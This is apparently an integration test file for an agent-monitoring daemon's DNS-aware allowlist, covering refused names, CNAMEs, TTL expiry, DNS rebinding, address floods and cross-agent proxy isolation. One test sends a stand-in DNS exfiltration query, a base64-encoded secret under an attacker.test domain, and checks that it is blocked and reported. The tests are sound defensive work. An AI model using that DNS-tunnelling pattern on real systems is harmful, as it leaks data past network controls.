//! DNS-aware allowlists end to end: a real dnsmasq as upstream on loopback, the real daemon, real
//! agent processes (python3) resolving through the host's resolver or sending hand-built queries
//! to any address on port 53. Run one at a time (`--test-threads=1`).

use std::time::Duration;

use agent_monitor_tests::*;
use serde_json::Value;

/// A server the agents "ask": redirected by the kernel, so it need not exist (TEST-NET-1).
const SERVER4: &str = "192.0.2.1";
const SERVER6: &str = "2001:db8::53";
const A: &str = "1";
const AAAA: &str = "28";
const NOERROR: i64 = 0;
const SERVFAIL: i64 = 2;
const REFUSED: i64 = 5;

/// The test names answer with loopback addresses (the only ones a test can listen on), so these
/// policies opt their names in to non-public answers; `policy_with_dns` writes another `[dns]`.
fn policy(agent: &str, mode: &str, net: &[String]) -> (String, String) {
    policy_with_dns(
        agent,
        mode,
        net,
        "private_answers = [\"*.test\", \"*.example.com\"]",
    )
}

fn policy_with_dns(agent: &str, mode: &str, net: &[String], dns: &str) -> (String, String) {
    let allow: Vec<String> = net.iter().map(|s| format!("{s:?}")).collect();
    (
        format!("{agent}.toml"),
        format!(
            "agent = {agent:?}\nmode = {mode:?}\n[network]\nallow = [{}]\n[exec]\nallow = [\"/usr/bin/python3*\"]\n[dns]\n{dns}\n",
            allow.join(", ")
        ),
    )
}

fn daemon(policies: &[(String, String)], upstream: &Dnsmasq, extra: &[&str]) -> Daemon {
    let up = upstream.addr.to_string();
    let mut args = vec!["--dns-upstream", up.as_str()];
    args.extend_from_slice(extra);
    Daemon::start_with(policies, &args)
}

/// One agent with host rules `rules`, a dnsmasq with `records`, and a daemon using it as upstream.
struct Case {
    agent: String,
    up: Dnsmasq,
    d: Daemon,
}

/// `None` when the test is skipped (not root).
fn case(
    test: &str,
    mode: &str,
    rules: &[String],
    records: &[&str],
    extra: &[&str],
) -> Option<Case> {
    if !require_root(test) {
        return None;
    }
    let agent = unique_agent(test.split('_').next().unwrap_or("dns"));
    let up = Dnsmasq::start(records);
    let d = daemon(&[policy(&agent, mode, rules)], &up, extra);
    Some(Case { agent, up, d })
}

impl Case {
    fn ops(&self, ops: &str) -> Vec<Value> {
        agent_ops(&self.d, &self.agent, ops)
    }
}

/// Runs the python DNS client as `agent` with the operations in `ops` (whitespace-separated, see
/// `PY_DNS_CLIENT`); one JSON value per operation.
fn agent_ops(d: &Daemon, agent: &str, ops: &str) -> Vec<Value> {
    let mut cmd = vec![PYTHON, "-c", PY_DNS_CLIENT];
    cmd.extend(ops.split_whitespace());
    d.run_json_lines(agent, Some("dns"), &cmd)
}

fn rcode(v: &Value) -> i64 {
    v["rcode"]
        .as_i64()
        .unwrap_or_else(|| panic!("no rcode: {v}"))
}

fn addrs(v: &Value) -> Vec<String> {
    v["addrs"]
        .as_array()
        .unwrap_or_else(|| panic!("no addrs: {v}"))
        .iter()
        .map(|a| a.as_str().unwrap_or("").to_string())
        .collect()
}

fn connected(v: &Value) -> bool {
    v["ok"] == true
}

fn eperm(v: &Value) -> bool {
    v["errno"] == libc::EPERM
}

fn is(v: &Value, key: &str, want: &str) -> bool {
    field(v, key) == want
}

#[test]
fn allowed_name_is_answered_and_only_then_reachable() {
    if !require_root("allowed_name_is_answered_and_only_then_reachable") {
        return;
    }
    let agent = unique_agent("dnsok");
    let other = unique_agent("dnsother");
    let port = listener_on("127.0.0.3");
    let other_port = listener_on("127.0.0.3");
    let up = Dnsmasq::start(&["--address=/ok.example.com/127.0.0.3"]);
    let rule = format!("ok.example.com:{port}");
    let d = daemon(
        &[
            policy(&agent, "enforce", std::slice::from_ref(&rule)),
            policy(&other, "enforce", &[rule]),
        ],
        &up,
        &[],
    );
    let p = port.to_string();
    let op = other_port.to_string();
    // A hard-coded IP of an allowed host (not before the agent resolved it), then the name through
    // the host's own resolver (resolv.conf; redirected by the kernel), then the rule's port and
    // another port of the learned address.
    let r = agent_ops(
        &d,
        &agent,
        &format!("c 127.0.0.3 {p} gai OK.Example.com c 127.0.0.3 {p} c 127.0.0.3 {op}"),
    );
    assert!(eperm(&r[0]), "connect before resolution: {}", r[0]);
    assert_eq!(addrs(&r[1]), ["127.0.0.3"], "getaddrinfo: {}", r[1]);
    assert!(connected(&r[2]), "connect after resolution: {}", r[2]);
    assert!(
        eperm(&r[3]),
        "another port of the learned address: {}",
        r[3]
    );

    // A second agent with the same rules did not resolve: not reachable for it.
    let r = agent_ops(&d, &other, &format!("c 127.0.0.3 {p}"));
    assert!(eperm(&r[0]), "other agent: {}", r[0]);
    // Non-agent processes are unaffected.
    std::net::TcpStream::connect(("127.0.0.3", port)).expect("the test itself connects");

    // getaddrinfo asks A and AAAA (in either order); the A answer holds the address.
    let q = d.wait_audit("allowed DNS query", |v| {
        is(v, "action", "dns")
            && is(v, "agent_id", &agent)
            && is(v, "dns_name", "ok.example.com")
            && field(v, "reason").starts_with("A query")
    });
    assert_eq!(field(&q, "verdict"), "allowed");
    assert_eq!(field(&q, "comm"), "python3");
    assert!(field(&q, "reason").contains("127.0.0.3"), "{q}");
    let c = d.wait_audit("learned connect", |v| {
        is(v, "action", "connect") && is(v, "verdict", "allowed") && v["dest_port"] == port
    });
    assert_eq!(field(&c, "dest_host"), "ok.example.com");
    assert_eq!(field(&c, "agent_id"), agent);
    let e = wait_journal(&agent, "denied connect before resolution", |e| {
        is(e, "ACTION", "connect") && is(e, "VERDICT", "denied")
    });
    assert_eq!(field(&e, "DEST_ADDR"), "127.0.0.3");
    assert!(up.was_asked("ok.example.com"), "dnsmasq log:\n{}", up.log());
    assert_eq!(d.status()["counters"]["verdict_disagreements"], 0);
}

#[test]
fn refused_name_never_reaches_upstream_and_is_reported() {
    let Some(c) = case(
        "refused_name_never_reaches_upstream_and_is_reported",
        "enforce",
        &["ok.example.com:443".into()],
        &["--address=/attacker.test/127.0.0.9"],
        &[],
    ) else {
        return;
    };
    let r = c.ops(&format!("q {SERVER4} c2VjcmV0.Exfil.Attacker.test {A} udp"));
    assert_eq!(rcode(&r[0]), REFUSED, "{}", r[0]);
    assert!(addrs(&r[0]).is_empty());
    // The reply appears to come from the server the agent asked.
    assert_eq!(r[0]["peer"], SERVER4, "{}", r[0]);
    assert_eq!(r[0]["peer_port"], 53, "{}", r[0]);
    assert!(
        !c.up.log().to_lowercase().contains("attacker"),
        "a refused name reached the upstream:\n{}",
        c.up.log()
    );
    let e = wait_journal(&c.agent, "refused DNS query", |e| {
        is(e, "ACTION", "dns") && is(e, "VERDICT", "denied")
    });
    assert_eq!(field(&e, "DNS_NAME"), "c2vjcmv0.exfil.attacker.test");
    assert_eq!(field(&e, "PRIORITY"), "4");
    assert_eq!(field(&e, "DEST_ADDR"), SERVER4);
    assert_eq!(field(&e, "DEST_PORT"), "53");
    assert_eq!(field(&e, "ENFORCEMENT"), "refused");
    // Attributed to the process that sent it.
    assert_eq!(field(&e, "COMM"), "python3");
    assert!(field(&e, "PROCESS_CHAIN").contains(PYTHON), "{e}");
    let a = c.d.wait_audit("refused query", |v| {
        is(v, "action", "dns") && is(v, "verdict", "denied")
    });
    assert_eq!(field(&a, "dns_name"), "c2vjcmv0.exfil.attacker.test");
    let counters = &c.d.status()["counters"];
    assert!(counters["dns_refused"].as_u64() >= Some(1), "{counters}");
}

#[test]
fn wildcard_allows_subdomains_only() {
    let Some(c) = case(
        "wildcard_allows_subdomains_only",
        "enforce",
        &["*.wild.test:443".into()],
        &["--address=/wild.test/127.0.0.4"],
        &[],
    ) else {
        return;
    };
    let q = |name: &str| format!("q {SERVER4} {name} {A} udp ");
    let r = c.ops(
        &[
            q("a.wild.test"),
            q("x.y.wild.test"),
            q("wild.test"),
            q("notwild.test"),
        ]
        .concat(),
    );
    assert_eq!(
        (rcode(&r[0]), addrs(&r[0])),
        (NOERROR, vec!["127.0.0.4".into()])
    );
    assert_eq!(rcode(&r[1]), NOERROR, "{}", r[1]);
    assert_eq!(rcode(&r[2]), REFUSED, "the parent itself: {}", r[2]);
    assert_eq!(rcode(&r[3]), REFUSED, "{}", r[3]);
}

#[test]
fn cname_to_a_name_off_the_list_still_learns_the_final_address() {
    let port = listener_on("127.0.0.7");
    let Some(c) = case(
        "cname_to_a_name_off_the_list_still_learns_the_final_address",
        "enforce",
        &[format!("alias.ok.test:{port}")],
        &[
            "--host-record=edge.cdn-outside.test,127.0.0.7",
            "--cname=alias.ok.test,edge.cdn-outside.test",
        ],
        &[],
    ) else {
        return;
    };
    let r = c.ops(&format!(
        "q {SERVER4} alias.ok.test {A} udp c 127.0.0.7 {port} q {SERVER4} edge.cdn-outside.test {A} udp"
    ));
    assert_eq!(
        (rcode(&r[0]), addrs(&r[0])),
        (NOERROR, vec!["127.0.0.7".into()])
    );
    assert!(
        connected(&r[1]),
        "connect to the CNAME target's address: {}",
        r[1]
    );
    assert_eq!(rcode(&r[2]), REFUSED, "the target asked directly: {}", r[2]);
    let q =
        c.d.wait_audit("CNAME query", |v| is(v, "dns_name", "alias.ok.test"));
    assert!(
        field(&q, "reason").contains("via CNAME edge.cdn-outside.test"),
        "{q}"
    );
    let connect = c.d.wait_audit("connect", |v| {
        is(v, "action", "connect") && v["dest_port"] == port
    });
    assert_eq!(field(&connect, "dest_host"), "alias.ok.test");
}

#[test]
fn aaaa_answers_are_learned_and_ipv6_servers_redirected() {
    let Some(port) = listener_v6() else {
        panic!("no IPv6 loopback on this machine");
    };
    let Some(c) = case(
        "aaaa_answers_are_learned_and_ipv6_servers_redirected",
        "enforce",
        &[format!("six.ok.test:{port}")],
        &["--host-record=six.ok.test,::1"],
        &[],
    ) else {
        return;
    };
    // Also an IPv6 socket asking an IPv4-mapped server: it takes the IPv4 path to the proxy.
    let mapped = format!("::ffff:{SERVER4}");
    let r = c.ops(&format!(
        "c ::1 {port} q {SERVER6} six.ok.test {AAAA} udp c ::1 {port} q {mapped} six.ok.test {AAAA} udp q {mapped} other.test {A} tcp"
    ));
    assert!(eperm(&r[0]), "before resolution: {}", r[0]);
    assert_eq!((rcode(&r[1]), addrs(&r[1])), (NOERROR, vec!["::1".into()]));
    assert_eq!(r[1]["peer"], SERVER6, "reply source: {}", r[1]);
    assert!(connected(&r[2]), "after resolution: {}", r[2]);
    assert_eq!(rcode(&r[3]), NOERROR, "{}", r[3]);
    assert_eq!(r[3]["peer"], mapped, "reply source: {}", r[3]);
    assert_eq!(rcode(&r[4]), REFUSED, "{}", r[4]);
    assert_eq!(r[4]["peer"], mapped, "TCP peer: {}", r[4]);
}

#[test]
fn learned_addresses_expire_after_ttl_and_grace() {
    let port = listener_on("127.0.0.5");
    let Some(c) = case(
        "learned_addresses_expire_after_ttl_and_grace",
        "enforce",
        &[format!("short.ok.test:{port}")],
        &["--host-record=short.ok.test,127.0.0.5", "--local-ttl=1"],
        &["--dns-grace", "1"],
    ) else {
        return;
    };
    let r = c.ops(&format!(
        "q {SERVER4} short.ok.test {A} udp c 127.0.0.5 {port}"
    ));
    assert_eq!(rcode(&r[0]), NOERROR);
    assert!(connected(&r[1]), "within the TTL: {}", r[1]);
    // TTL 1 s + grace 1 s, and a margin.
    std::thread::sleep(Duration::from_millis(2500));
    let r = c.ops(&format!("c 127.0.0.5 {port}"));
    assert!(eperm(&r[0]), "after expiry: {}", r[0]);
    // The daemon's sweep (every 2 s) removes the kernel entry too.
    std::thread::sleep(Duration::from_millis(2500));
    assert_eq!(c.d.status()["counters"]["dns_learned"], 0);
}

#[test]
fn dns_over_tcp_is_redirected_and_judged() {
    let port = listener_on("127.0.0.6");
    let Some(c) = case(
        "dns_over_tcp_is_redirected_and_judged",
        "enforce",
        &[format!("tcp.ok.test:{port}")],
        &[
            "--host-record=tcp.ok.test,127.0.0.6",
            "--address=/elsewhere.test/127.0.0.8",
        ],
        &[],
    ) else {
        return;
    };
    let r = c.ops(&format!(
        "q {SERVER4} tcp.ok.test {A} tcp c 127.0.0.6 {port} q {SERVER4} x.elsewhere.test {A} tcp"
    ));
    assert_eq!(
        (rcode(&r[0]), addrs(&r[0])),
        (NOERROR, vec!["127.0.0.6".into()])
    );
    // getpeername on the redirected connection names the server the agent asked.
    assert_eq!(r[0]["peer"], SERVER4, "{}", r[0]);
    assert!(connected(&r[1]), "{}", r[1]);
    assert_eq!(rcode(&r[2]), REFUSED, "{}", r[2]);
    assert!(!c.up.was_asked("x.elsewhere.test"), "{}", c.up.log());
    let q =
        c.d.wait_audit("TCP query", |v| is(v, "dns_name", "tcp.ok.test"));
    assert_eq!(field(&q, "dest_transport"), "tcp");
    assert_eq!(field(&q, "comm"), "python3");
}

#[test]
fn upstream_down_gives_servfail_never_a_bypass() {
    if !require_root("upstream_down_gives_servfail_never_a_bypass") {
        return;
    }
    let agent = unique_agent("dnsdown");
    let port = listener_on("127.0.0.3");
    let dead = format!("127.0.0.1:{}", free_udp_port());
    let d = Daemon::start_with(
        &[policy(
            &agent,
            "enforce",
            &[format!("ok.example.com:{port}")],
        )],
        &["--dns-upstream", &dead, "--dns-timeout-ms", "500"],
    );
    let r = agent_ops(
        &d,
        &agent,
        &format!(
            "q {SERVER4} ok.example.com {A} udp q {SERVER4} ok.example.com {A} tcp c 127.0.0.3 {port}"
        ),
    );
    assert_eq!(rcode(&r[0]), SERVFAIL, "{}", r[0]);
    assert_eq!(rcode(&r[1]), SERVFAIL, "{}", r[1]);
    assert!(eperm(&r[2]), "nothing learned, nothing reachable: {}", r[2]);
    let a = d.wait_audit("upstream failure", |v| {
        is(v, "action", "dns") && is(v, "enforcement", "servfail")
    });
    assert!(field(&a, "reason").contains(&dead), "{a}");
    let counters = &d.status()["counters"];
    assert!(
        counters["dns_upstream_failures"].as_u64() >= Some(2),
        "{counters}"
    );
    assert!(
        d.log().contains("DNS upstream failed"),
        "not logged:\n{}",
        d.log()
    );
}

#[test]
fn alert_mode_answers_and_reports_names_off_the_list() {
    let Some(c) = case(
        "alert_mode_answers_and_reports_names_off_the_list",
        "alert",
        &["ok.example.com:443".into()],
        &["--address=/offlist.test/127.0.0.9"],
        &[],
    ) else {
        return;
    };
    let r = c.ops(&format!("q {SERVER4} x.offlist.test {A} udp"));
    assert_eq!(
        (rcode(&r[0]), addrs(&r[0])),
        (NOERROR, vec!["127.0.0.9".into()])
    );
    let e = wait_journal(&c.agent, "alert for a DNS query", |e| {
        is(e, "ACTION", "dns") && is(e, "VERDICT", "alert")
    });
    assert_eq!(field(&e, "DNS_NAME"), "x.offlist.test");
    assert_eq!(field(&e, "PRIORITY"), "3");
}

#[test]
fn an_agent_cannot_use_another_agents_proxy_endpoint() {
    if !require_root("an_agent_cannot_use_another_agents_proxy_endpoint") {
        return;
    }
    let agent = unique_agent("dnsloop");
    let other = unique_agent("dnsvictim");
    let up = Dnsmasq::start(&["--address=/victim.test/127.0.0.3"]);
    // The agent may reach every loopback port, which would include the other's endpoint.
    let d = daemon(
        &[
            policy(&agent, "enforce", &["127.0.0.0/8:*".into()]),
            policy(&other, "enforce", &["victim.test:443".into()]),
        ],
        &up,
        &[],
    );
    let status = d.status();
    let endpoint = |name: &str| -> Value {
        status["agents"]
            .as_array()
            .and_then(|a| a.iter().find(|x| x["agent"] == name))
            .map(|x| x["dns_proxy"].clone())
            .unwrap_or_else(|| panic!("no DNS endpoint of {name} in status: {status}"))
    };
    let theirs = endpoint(&other);
    let mine = endpoint(&agent);
    let r = agent_ops(
        &d,
        &agent,
        &format!(
            "qp 127.0.0.1 {} victim.test {A} udp qp 127.0.0.1 {} victim.test {A} tcp qp 127.0.0.1 {} x.test {A} udp",
            theirs["udp4"], theirs["tcp4"], mine["udp4"]
        ),
    );
    assert!(eperm(&r[0]), "UDP to the other agent's endpoint: {}", r[0]);
    assert!(eperm(&r[1]), "TCP to the other agent's endpoint: {}", r[1]);
    // Its own endpoint, asked directly, judges it like any query.
    assert_eq!(rcode(&r[2]), REFUSED, "{}", r[2]);
    assert!(!up.was_asked("victim.test"), "{}", up.log());
    let e = wait_journal(&agent, "denied use of another endpoint", |e| {
        is(e, "ACTION", "connect") && is(e, "VERDICT", "denied")
    });
    assert!(
        field(&e, "REASON").contains("another agent's DNS proxy"),
        "{e}"
    );
    assert_eq!(d.status()["counters"]["verdict_disagreements"], 0);
}

#[test]
fn learned_addresses_allow_udp_datagrams_on_the_rule_ports_only() {
    let sink = UdpSink::bind("127.0.0.4:0");
    let other = UdpSink::bind("127.0.0.4:0");
    let Some(c) = case(
        "learned_addresses_allow_udp_datagrams_on_the_rule_ports_only",
        "enforce",
        &[format!("quic.ok.test:{}", sink.port)],
        &["--host-record=quic.ok.test,127.0.0.4"],
        &[],
    ) else {
        return;
    };
    let (p, o) = (sink.port, other.port);
    let r = c.ops(&format!(
        "u 127.0.0.4 {p} q {SERVER4} quic.ok.test {A} udp u 127.0.0.4 {p} u 127.0.0.4 {o}"
    ));
    assert!(eperm(&r[0]), "datagram before resolution: {}", r[0]);
    assert_eq!(rcode(&r[1]), NOERROR, "{}", r[1]);
    assert!(connected(&r[2]), "datagram after resolution: {}", r[2]);
    assert!(eperm(&r[3]), "another port: {}", r[3]);
    assert_eq!(sink.received(), 1, "exactly the allowed datagram arrived");
    assert_eq!(other.received(), 0);
    let s = c.d.wait_audit("learned datagram", |v| {
        is(v, "action", "sendmsg") && is(v, "verdict", "allowed") && v["dest_port"] == p
    });
    assert_eq!(field(&s, "dest_host"), "quic.ok.test");
}

/// A hosts file for dnsmasq (`--addn-hosts`): every (address, name) pair becomes one record, so a
/// name can answer with thousands of addresses. Returned with the directory that holds it.
fn hosts_file(entries: &[(String, &str)]) -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("hosts");
    let body: String = entries.iter().map(|(a, n)| format!("{a} {n}\n")).collect();
    std::fs::write(&path, body).expect("writing the hosts file");
    let arg = format!("--addn-hosts={}", path.display());
    (dir, arg)
}

fn agent_status(d: &Daemon, agent: &str) -> Value {
    let status = d.status();
    status["agents"]
        .as_array()
        .and_then(|a| a.iter().find(|x| x["agent"] == agent))
        .cloned()
        .unwrap_or_else(|| panic!("no {agent} in status: {status}"))
}

/// Issue 13, shared DNS state: an agent whose allowed wildcard answers with thousands of
/// (public) addresses fills only its own share of the learned-address map (4096 by default);
/// beyond it the addresses are not learned, the reply carries only what it may reach (SERVFAIL
/// when nothing is left) and the limit is reported. Another agent's allowed name still resolves
/// and connects, and a reload in the middle of it is applied.
#[test]
fn a_flood_of_learned_addresses_hits_the_agents_own_limit_not_the_others() {
    if !require_root("a_flood_of_learned_addresses_hits_the_agents_own_limit_not_the_others") {
        return;
    }
    let flooder = unique_agent("dnsflood");
    let victim = unique_agent("dnsvict");
    let port = listener_on("127.0.0.3");
    // Four names under the wildcard, 2000 distinct public addresses each (198.18.0.0/15).
    let names = [
        "n1.flood.test",
        "n2.flood.test",
        "n3.flood.test",
        "n4.flood.test",
    ];
    let mut entries = Vec::new();
    for (k, name) in names.iter().enumerate() {
        for i in 0..2000u32 {
            let n = k as u32 * 2000 + i;
            entries.push((format!("198.18.{}.{}", n / 250, n % 250 + 1), *name));
        }
    }
    let (_hosts, addn) = hosts_file(&entries);
    let up = Dnsmasq::start(&[addn.as_str(), "--address=/ok.example.com/127.0.0.3"]);
    let victim_policy = policy(&victim, "enforce", &[format!("ok.example.com:{port}")]);
    let d = daemon(
        &[
            policy_with_dns(&flooder, "enforce", &["*.flood.test:443".into()], ""),
            victim_policy.clone(),
        ],
        &up,
        &[],
    );
    let ops: Vec<String> = names
        .iter()
        .map(|n| format!("q {SERVER4} {n} {A} tcp"))
        .collect();
    let r = agent_ops(&d, &flooder, &ops.join(" "));
    for (i, v) in r[..2].iter().enumerate() {
        assert_eq!(rcode(v), NOERROR, "answer {i}: {}", v["rcode"]);
        assert_eq!(addrs(v).len(), 2000, "answer {i} fits the limit whole");
    }
    assert_eq!(rcode(&r[2]), NOERROR);
    assert_eq!(
        addrs(&r[2]).len(),
        4096 - 4000,
        "the third answer is cut to what still fits"
    );
    assert_eq!(
        rcode(&r[3]),
        SERVFAIL,
        "nothing of the fourth answer fits: SERVFAIL (try again later)"
    );
    let s = agent_status(&d, &flooder);
    assert_eq!(s["dns_learned"], 4096, "{s}");
    assert_eq!(s["dns_learned_limit"], 4096, "{s}");
    assert_eq!(s["dns_withheld_limit"], 1904 + 2000, "{s}");

    // The other agent's allowed name resolves and connects.
    let p = port.to_string();
    let r = agent_ops(&d, &victim, &format!("gai ok.example.com c 127.0.0.3 {p}"));
    assert_eq!(addrs(&r[0]), ["127.0.0.3"], "{}", r[0]);
    assert!(connected(&r[1]), "victim connect: {}", r[1]);

    // A reload while the flooder holds its whole share is applied; learned state moves along.
    let (name, text_) = victim_policy;
    d.write_policy(&name, &text_);
    let out = d.reload();
    assert!(
        out.status.success(),
        "reload refused: {}",
        text(&out.stderr)
    );
    let r = agent_ops(
        &d,
        &victim,
        &format!("c 127.0.0.3 {p} gai ok.example.com c 127.0.0.3 {p}"),
    );
    assert!(connected(&r[0]), "learned before the reload: {}", r[0]);
    assert!(connected(&r[2]), "after the reload: {}", r[2]);
    // The flooder's learned addresses survived the reload and still count against its limit.
    let r = agent_ops(
        &d,
        &flooder,
        &format!("q {SERVER4} n4.flood.test {A} tcp c 198.18.0.1 443"),
    );
    assert_eq!(
        rcode(&r[0]),
        SERVFAIL,
        "still at its limit after the reload"
    );
    assert!(!eperm(&r[1]), "a learned address stays allowed: {}", r[1]);

    let e = wait_journal(&flooder, "limit notice", |e| is(e, "WITHHELD", "limit"));
    assert_eq!(field(&e, "LEARNED_LIMIT"), "4096", "{e}");
    assert_eq!(field(&e, "PRIORITY"), "4");
    assert!(
        field(&e, "MESSAGE").contains("learned-address limit reached"),
        "{e}"
    );
    let q = d.wait_audit("the cut answer", |v| {
        is(v, "action", "dns") && is(v, "agent_id", &flooder) && is(v, "enforcement", "servfail")
    });
    assert_eq!(field(&q, "verdict"), "denied", "{q}");
    let c = &d.status()["counters"];
    assert!(c["dns_limit_reached"].as_u64() >= Some(2), "{c}");
    assert_eq!(c["dns_install_failures"], 0, "{c}");
    assert_eq!(c["reload_failures"], 0, "{c}");
    assert_eq!(c["verdict_disagreements"], 0);
}

/// Issue 13, DNS rebinding: an allowed name answering with loopback, link-local or private
/// addresses does not make them reachable: they are not learned and leave the reply (REFUSED when
/// nothing is left), reported. A policy that opts the name in (`dns.private_answers`) gets them,
/// and so does a process outside agents.
#[test]
fn a_name_answering_local_addresses_is_not_learned_without_an_opt_in() {
    if !require_root("a_name_answering_local_addresses_is_not_learned_without_an_opt_in") {
        return;
    }
    let strict = unique_agent("dnsrebind");
    let opted = unique_agent("dnsoptin");
    let port = listener_on("127.0.0.3");
    let (_hosts, addn) = hosts_file(&[
        ("127.0.0.3".into(), "rebind.test"),
        ("169.254.7.7".into(), "rebind.test"),
        ("10.1.2.3".into(), "rebind.test"),
        ("127.0.0.3".into(), "mixed.test"),
        ("198.18.9.9".into(), "mixed.test"),
    ]);
    let up = Dnsmasq::start(&[addn.as_str()]);
    let rules = [format!("rebind.test:{port}"), format!("mixed.test:{port}")];
    let d = daemon(
        &[
            policy_with_dns(&strict, "enforce", &rules, ""),
            policy_with_dns(
                &opted,
                "enforce",
                &rules,
                "private_answers = [\"rebind.test\"]",
            ),
        ],
        &up,
        &[],
    );
    let p = port.to_string();
    let ops = format!(
        "q {SERVER4} rebind.test {A} udp c 127.0.0.3 {p} c 169.254.7.7 {p} c 10.1.2.3 {p} q {SERVER4} mixed.test {A} udp c 127.0.0.3 {p}"
    );
    let r = agent_ops(&d, &strict, &ops);
    assert_eq!(rcode(&r[0]), REFUSED, "only non-public addresses: {}", r[0]);
    for c in &r[1..4] {
        assert!(eperm(c), "not learned, so denied: {c}");
    }
    assert_eq!(rcode(&r[4]), NOERROR, "{}", r[4]);
    assert_eq!(
        addrs(&r[4]),
        ["198.18.9.9"],
        "the loopback address left the reply"
    );
    assert!(eperm(&r[5]), "{}", r[5]);

    // The policy that opts rebind.test in gets its answer and reaches it.
    let r = agent_ops(&d, &opted, &ops);
    assert_eq!(rcode(&r[0]), NOERROR, "{}", r[0]);
    assert!(addrs(&r[0]).contains(&"127.0.0.3".to_string()), "{}", r[0]);
    assert!(connected(&r[1]), "opted in: {}", r[1]);
    // mixed.test is not opted in: the same protection applies.
    assert_eq!(addrs(&r[4]), ["198.18.9.9"], "{}", r[4]);

    // Outside agents nothing changes: the same name through the same upstream.
    let out = std::process::Command::new(PYTHON)
        .args(["-c", PY_DNS_CLIENT, "qp", "127.0.0.1"])
        .arg(up.addr.port().to_string())
        .args(["rebind.test", A, "udp"])
        .output()
        .expect("python3");
    let v: Value = serde_json::from_slice(&out.stdout).expect("one JSON line");
    assert_eq!(rcode(&v), NOERROR, "{v}");
    assert_eq!(addrs(&v).len(), 3, "{v}");
    std::net::TcpStream::connect(("127.0.0.3", port)).expect("the test itself connects");

    let e = wait_journal(&strict, "rebinding notice", |e| {
        is(e, "WITHHELD", "non-public")
    });
    assert_eq!(field(&e, "DNS_NAME"), "rebind.test", "{e}");
    assert!(field(&e, "WITHHELD_ADDRS").contains("169.254.7.7"), "{e}");
    let q = wait_journal(&strict, "refused answer", |e| {
        is(e, "ACTION", "dns") && is(e, "VERDICT", "denied") && is(e, "DNS_NAME", "rebind.test")
    });
    assert!(field(&q, "REASON").contains("non-public"), "{q}");
    let s = agent_status(&d, &strict);
    assert_eq!(
        s["dns_withheld_non_public"], 4,
        "3 + mixed.test's loopback: {s}"
    );
    assert_eq!(agent_status(&d, &opted)["dns_withheld_non_public"], 1);
    assert_eq!(d.status()["counters"]["verdict_disagreements"], 0);
}

/// DNS rebinding to the host itself through an address that is not loopback or private: an
/// allowed name answering one of this host's own interface addresses (public on a host with a
/// public address) would make every service listening on the wildcard address reachable. It is
/// withheld like a loopback answer unless the policy opts the name in; a process outside agents
/// gets it.
#[test]
fn a_name_answering_the_hosts_own_address_is_not_learned_without_an_opt_in() {
    if !require_root("a_name_answering_the_hosts_own_address_is_not_learned_without_an_opt_in") {
        return;
    }
    // A non-loopback IPv4 address of this host (`hostname -I` lists them).
    let out = std::process::Command::new("hostname")
        .arg("-I")
        .output()
        .expect("hostname -I");
    let Some(own) = text(&out.stdout)
        .split_whitespace()
        .find(|a| !a.contains(':') && !a.starts_with("127."))
        .map(str::to_string)
    else {
        eprintln!("\n!!! SKIPPED: this host has no non-loopback IPv4 address !!!\n");
        return;
    };
    let strict = unique_agent("dnsself");
    let opted = unique_agent("dnsselfin");
    let port = listener_on(&own);
    let (_hosts, addn) = hosts_file(&[(own.clone(), "self.test")]);
    let up = Dnsmasq::start(&[addn.as_str()]);
    let rules = [format!("self.test:{port}")];
    let d = daemon(
        &[
            policy_with_dns(
                &strict,
                "enforce",
                &rules,
                "private_answers = [\"other.test\"]",
            ),
            policy_with_dns(
                &opted,
                "enforce",
                &rules,
                "private_answers = [\"self.test\"]",
            ),
        ],
        &up,
        &[],
    );
    let ops = format!("q {SERVER4} self.test {A} udp c {own} {port}");
    let r = agent_ops(&d, &strict, &ops);
    assert_eq!(
        rcode(&r[0]),
        REFUSED,
        "the host's own address withheld: {}",
        r[0]
    );
    assert!(eperm(&r[1]), "not learned, so denied: {}", r[1]);
    let r = agent_ops(&d, &opted, &ops);
    assert_eq!(addrs(&r[0]), [own.as_str()], "{}", r[0]);
    assert!(connected(&r[1]), "opted in: {}", r[1]);
    let e = wait_journal(&strict, "rebinding notice", |e| {
        is(e, "WITHHELD", "non-public")
    });
    assert!(field(&e, "WITHHELD_ADDRS").contains(&own), "{e}");
}
